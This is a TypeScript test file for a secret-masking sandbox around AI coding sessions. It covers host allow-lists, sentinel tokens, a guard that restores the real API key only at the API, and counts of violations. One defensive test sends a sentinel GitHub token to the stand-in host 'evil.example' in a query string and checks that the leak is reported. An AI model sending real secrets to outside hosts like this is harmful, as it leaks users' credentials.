/**
 * Secrets in the sandbox (issue 32), the pure parts: the operator's secret host file, which variables are masked and
 * where each may go, the launcher's request guard (the API key put back only at the API; sentinels elsewhere
 * reported; a listed host on another port refused), a bad file at a sandboxed start, and the fold's violation count.
 */
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { loadConfig } from "../../src/config.js";
import { foldAll, initialFold, reduce } from "../../src/events/reducer.js";
import { requestGuard, type SecretViolation } from "../../src/sandbox/guard.js";
import { planMasks } from "../../src/sandbox/mask.js";
import { hostsFor, parseSecretHosts, secretNames, type SecretsSpec } from "../../src/sandbox/secrets.js";
import { noticeOf } from "../../src/server/mcp/notify.js";
import { secretSetup } from "../../src/sessions/launch/sandbox.js";

const dir = mkdtempSync(join(tmpdir(), "cs-secrets-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe("the secret host file", () => {
  it("takes names and PREFIX_* with host lists; the longest prefix wins", () => {
    const rules = parseSecretHosts(
      JSON.stringify({
        GITHUB_TOKEN: ["api.github.com", "*.github.com:443"],
        "AWS_*": ["*.amazonaws.com"],
        "AWS_S3_*": ["s3.example.com"],
      }),
    );
    expect(hostsFor("GITHUB_TOKEN", rules)).toEqual(["api.github.com", "*.github.com:443"]);
    expect(hostsFor("AWS_S3_KEY", rules)).toEqual(["s3.example.com"]);
    expect(hostsFor("AWS_SECRET", rules)).toEqual(["*.amazonaws.com"]);
    expect(hostsFor("OTHER", rules)).toBeUndefined();
  });

  it("refuses what does not parse, naming every bad entry", () => {
    expect(() => parseSecretHosts("{nope")).toThrow(/not JSON/);
    expect(() => parseSecretHosts("[]")).toThrow(/JSON object/);
    expect(() => parseSecretHosts(JSON.stringify({ "BAD NAME": ["a.com"], OK: [], X: ["http://a.com"] }))).toThrow(
      /"BAD NAME" is not a variable name.*"OK": a non-empty list.*"X": "http:\/\/a.com" is not a host/,
    );
  });

  it("a sandboxed start with a bad file, a file others may write, an uncovered host or a CA file without a certificate is SANDBOX_UNAVAILABLE", () => {
    const f = join(dir, "hosts.json");
    const cfg = (extra: Record<string, string>) =>
      loadConfig({ CLAUDE_SESSIONS_DIR: dir, CLAUDE_SESSIONS_SANDBOX_HOSTS: "api.github.com", ...extra });
    writeFileSync(f, "{not json", { mode: 0o600 });
    expect(() => secretSetup(cfg({ CLAUDE_SESSIONS_SECRET_HOSTS: f }))).toThrow(
      expect.objectContaining({ code: "SANDBOX_UNAVAILABLE", message: expect.stringMatching(/not JSON/) }),
    );
    writeFileSync(f, JSON.stringify({ T: ["api.github.com"] }));
    chmodSync(f, 0o666);
    expect(() => secretSetup(cfg({ CLAUDE_SESSIONS_SECRET_HOSTS: f }))).toThrow(/cannot be trusted/);
    chmodSync(f, 0o600);
    expect(secretSetup(cfg({ CLAUDE_SESSIONS_SECRET_HOSTS: f })).rules).toEqual([{ pattern: "T", hosts: ["api.github.com"] }]);
    writeFileSync(f, JSON.stringify({ T: ["evil.example"] }));
    expect(() => secretSetup(cfg({ CLAUDE_SESSIONS_SECRET_HOSTS: f }))).toThrow(/may not reach: T: evil.example/);
    const ca = join(dir, "ca.pem");
    writeFileSync(ca, "not a certificate\n");
    expect(() => secretSetup(cfg({ CLAUDE_SESSIONS_SANDBOX_CA_FILE: ca }))).toThrow(/holds no PEM certificate/);
  });
});

const spec: SecretsSpec = {
  envNames: ["MY_TOKEN"],
  rules: [{ pattern: "GH_TOKEN", hosts: ["api.github.com"] }],
  api: { host: "127.0.0.1", port: 4000, plaintext: true },
};

describe("which variables are masked", () => {
  it("the session's env, listed names and (under doppler) what the server did not pass; never the launcher's own or the API key's (apart)", () => {
    const env = {
      MY_TOKEN: "a",
      GH_TOKEN: "b",
      DOPPLER_ADDED: "c",
      PATH: "/bin",
      TERM: "xterm",
      CLAUDE_CONFIG_DIR: "/x",
      ANTHROPIC_API_KEY: "k",
      PLAIN: "p",
    };
    expect(secretNames(env, spec).sort()).toEqual(["GH_TOKEN", "MY_TOKEN"]);
    expect(
      secretNames(env, { ...spec, dopplerBase: ["PATH", "PLAIN", "MY_TOKEN", "CLAUDE_CONFIG_DIR", "ANTHROPIC_API_KEY"] }).sort(),
    ).toEqual(["DOPPLER_ADDED", "GH_TOKEN", "MY_TOKEN"]);
  });

  it("the plan: the API key and unlisted secrets get sentinels of the launcher's; a listed one goes to the runtime with its hosts if allowed", () => {
    const p = planMasks({ MY_TOKEN: "a", GH_TOKEN: "b", ANTHROPIC_API_KEY: "real-key" }, spec, [
      "api.github.com",
      "127.0.0.1:4000",
    ]);
    expect(p.env.ANTHROPIC_API_KEY).toMatch(/^sk-ant-sandbox-/);
    expect(p.keys).toEqual([{ name: "ANTHROPIC_API_KEY", sentinel: p.env.ANTHROPIC_API_KEY, real: "real-key" }]);
    expect(p.env.MY_TOKEN).toMatch(/^fake_value_/);
    expect(p.env.GH_TOKEN).toBe("b"); // the runtime replaces it while wrapping
    expect(p.runtime).toEqual([{ name: "GH_TOKEN", mode: "mask", injectHosts: ["api.github.com"] }]);
    // Not reachable from this session: nothing may receive it.
    const narrowed = planMasks({ GH_TOKEN: "b" }, spec, ["127.0.0.1:4000"]);
    expect(narrowed.runtime).toEqual([]);
    expect(narrowed.env.GH_TOKEN).toMatch(/^fake_value_/);
  });
});

describe("the request guard", () => {
  const seen: SecretViolation[] = [];
  const guard = requestGuard(
    {
      secrets: [{ name: "GH_TOKEN", sentinel: "fake_value_gh", hosts: ["api.github.com:443"] }],
      keys: [{ name: "ANTHROPIC_API_KEY", sentinel: "sk-ant-sandbox-1", real: "sk-real" }],
      api: { host: "127.0.0.1", port: 4000, plaintext: true },
    },
    (v) => seen.push(v),
  );
  const req = (url: string, headers: Record<string, string>) => new Request(url, { headers });

  it("puts the API key back in its header on requests to the API only", async () => {
    const d = await guard(req("http://127.0.0.1:4000/v1/messages", { "x-api-key": "sk-ant-sandbox-1" }), {
      scheme: "http",
      target: { host: "127.0.0.1", port: 4000 },
    });
    expect(d).toEqual({ action: "allow", setHeaders: [["x-api-key", "sk-real"]] });
    const other = await guard(req("http://127.0.0.1:5000/x", { "x-api-key": "sk-ant-sandbox-1" }), {
      scheme: "http",
      target: { host: "127.0.0.1", port: 5000 },
    });
    expect(other).toEqual({ action: "allow" });
    expect(seen.at(-1)).toMatchObject({ name: "ANTHROPIC_API_KEY", target: "127.0.0.1:5000", action: "sent" });
  });

  it("a secret's sentinel: at its host nothing to report; elsewhere sent and reported; its host on another port refused", async () => {
    const n = seen.length;
    expect(
      await guard(req("https://api.github.com/user", { authorization: "token fake_value_gh" }), {
        scheme: "https",
        target: { host: "api.github.com", port: 443 },
      }),
    ).toEqual({ action: "allow" });
    expect(seen.length).toBe(n);
    expect(
      await guard(req("https://evil.example/?t=fake_value_gh", {}), {
        scheme: "https",
        target: { host: "evil.example", port: 443 },
      }),
    ).toEqual({ action: "allow" });
    expect(seen.at(-1)).toMatchObject({ name: "GH_TOKEN", target: "evil.example:443", action: "sent" });
    expect(
      await guard(req("https://api.github.com:8443/", { authorization: "token fake_value_gh" }), {
        scheme: "https",
        target: { host: "api.github.com", port: 8443 },
      }),
    ).toMatchObject({ action: "deny", status: 403 });
    expect(seen.at(-1)).toMatchObject({ name: "GH_TOKEN", action: "refused" });
    expect(JSON.stringify(seen)).not.toContain("sk-real");
  });
});

describe("the fold counts violations", () => {
  it("cs:sandbox_violation adds one, whatever the status, and a new process keeps the count", () => {
    const v = {
      hook_event_name: "cs:sandbox_violation" as const,
      violation: "network" as const,
      message: "deny network-outbound x:1",
    };
    let f = foldAll([v, v]);
    expect(f.sandbox_violations).toBe(2);
    f = reduce(f, { hook_event_name: "cs:spawn", generation: 2 });
    expect(f.sandbox_violations).toBe(2);
    expect(initialFold().sandbox_violations).toBeUndefined();
  });

  it("a violation is a warning notification with the count, unless the same change says something more", () => {
    const v = {
      hook_event_name: "cs:sandbox_violation" as const,
      violation: "secret" as const,
      message: "T sent as its sentinel to h:443 (not a host listed for it)",
    };
    const f = reduce({ ...initialFold(), status: "busy" }, v);
    expect(noticeOf({ session_id: "s1", status: "busy", previous: "busy", events: [v], fold: f })).toEqual({
      level: "warning",
      notice: { event: "sandbox_violation", session_id: "s1", status: "busy", sandbox_violations: 1, reason: v.message },
    });
    const ended = reduce(f, { hook_event_name: "Stop", last_assistant_message: "x" });
    expect(
      noticeOf({ session_id: "s1", status: "idle", previous: "busy", events: [v, { hook_event_name: "Stop" }], fold: ended })
        ?.notice.event,
    ).toBe("turn_ended");
  });
});
